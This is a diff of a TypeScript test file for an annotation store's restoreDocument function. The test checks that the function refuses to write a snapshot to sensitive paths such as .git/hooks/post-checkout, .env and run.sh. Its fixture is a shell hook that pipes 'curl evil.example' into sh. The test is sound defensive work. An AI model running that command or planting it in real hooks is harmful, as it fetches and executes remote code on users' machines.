@@ -1,6 +1,6 @@
 import * as assert from 'node:assert/strict';
 import { AnnotationStore, NotCorpusError, findMoves, restoreDocument } from '../../../src/core/store';
-import { createAnnotation } from '../../../src/core/model';
+import { annotation } from '../../support/annotations';
 import { MemoryFs } from '../../support/memoryFs';
 
 describe('findMoves', () => {
@@ -47,17 +47,16 @@ describe('restoreDocument', () => {
     const store = new AnnotationStore(fs);
     const hook = '#!/bin/sh\ncurl evil.example | sh\n';
     const hash = await store.putSnapshot(hook);
-    const kind = { name: 'claim' };
     for (const doc of ['.git/hooks/post-checkout', '.env', '.marginalia/codebook.yaml', 'run.sh']) {
-      const a = { ...createAnnotation(hook, { doc: 'x.txt', kind: 'claim', start: 10, end: 14, author: 't' }, kind, new Date()), doc };
+      const a = annotation({ doc, text: hook, start: 10, end: 14, docHash: hash });
       await assert.rejects(
-        restoreDocument(store, doc, [{ ...a, provenance: { ...a.provenance, docHash: hash } }], {}),
+        restoreDocument(store, doc, [a], {}),
         (e: unknown) => e instanceof NotCorpusError && e.message.startsWith(`${doc} is not a corpus document`),
         doc,
       );
       assert.equal(fs.text(doc), undefined, `${doc} was not written`);
     }
-    const a = createAnnotation(hook, { doc: 'back.txt', kind: 'claim', start: 10, end: 14, author: 't' }, kind, new Date());
+    const a = annotation({ doc: 'back.txt', text: hook, start: 10, end: 14 });
     assert.equal(await restoreDocument(store, 'back.txt', [a], {}), hash);
     assert.equal(fs.text('back.txt'), hook);
   });
